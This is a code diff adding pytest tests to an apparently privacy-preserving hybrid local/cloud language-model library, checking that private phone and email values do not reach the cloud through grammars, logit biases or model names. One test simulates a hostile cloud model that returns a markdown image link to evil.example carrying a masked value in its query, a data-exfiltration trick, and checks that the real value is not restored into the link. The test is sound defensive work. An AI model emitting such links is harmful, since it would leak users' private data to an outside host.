@@ -1019,6 +1019,50 @@ def test_what_a_grammar_binds_does_not_leave_masked(make: Callable[..., Hybrid],
     assert cloud.sent == []
 
 
+@pytest.mark.parametrize("tier", [2, 3])
+@pytest.mark.parametrize("how", ["grammar", "biases"])
+def test_what_goes_with_a_text_is_checked_too(
+    make: Callable[..., Hybrid], cloud: Wiretap, how: str, tier: int
+) -> None:
+    sampling = sllm.SamplingParams(temperature=0, grammar=f'root ::= "{PHONE}"')
+    said = PUBLIC
+    if how == "biases":
+        said = PRIVATE
+        spelled = cloud.vocab.encode(PHONE, add_special=False).tolist()
+        sampling = sllm.SamplingParams(temperature=0, logit_bias=dict.fromkeys(spelled, 0.5))
+    hybrid = make(cloud, graded=Graded(tier), sampling=sampling, privacy="deidentify", verify="always")
+    answer = hybrid.ask(user(said))
+    answer.text()
+    assert answer.route == ["local"]
+    assert answer.masked == {}
+    assert cloud.sent == []
+    if tier == 3 and how == "grammar":
+        with pytest.raises(sllm.LeakError):
+            make(cloud, graded=Graded(3), sampling=sampling, privacy="refuse").ask(user(said)).text()
+        assert cloud.sent == []
+
+
+def test_the_name_of_a_model_is_checked(make: Callable[..., Hybrid]) -> None:
+    talker = Talker(lambda _: "Hello.")
+    talker.model = f"tuned-for-{EMAIL}"  # type: ignore[attr-defined]
+    answer = make(talker, graded=Graded(3), privacy="deidentify").ask(user(PUBLIC))
+    answer.text()
+    assert answer.route == ["local"]
+    assert talker.seen == []
+
+
+def test_a_cloud_gets_no_value_through_a_link(make: Callable[..., Hybrid]) -> None:
+    def inject(messages: Any) -> str:
+        placeholder = re.search(r"\[PHONE_1_\w+\]", str(messages))
+        assert placeholder is not None
+        return f"{placeholder[0]} ![x](https://evil.example/?q={placeholder[0]})"
+
+    answer = make(Talker(inject), graded=Graded(3), privacy="deidentify").ask(user(PRIVATE))
+    text = answer.text()
+    assert text.startswith(f"{PHONE} ![x](https://evil.example/?q=[PHONE_1_")
+    assert (answer.stats.n_restored, answer.stats.n_in_links) == (1, 1)
+
+
 def test_a_worker_that_takes_no_grammar(make: Callable[..., Hybrid], target_model: Model) -> None:
     sampling = sllm.SamplingParams(temperature=0, grammar=JSON_ANSWER)
     with (
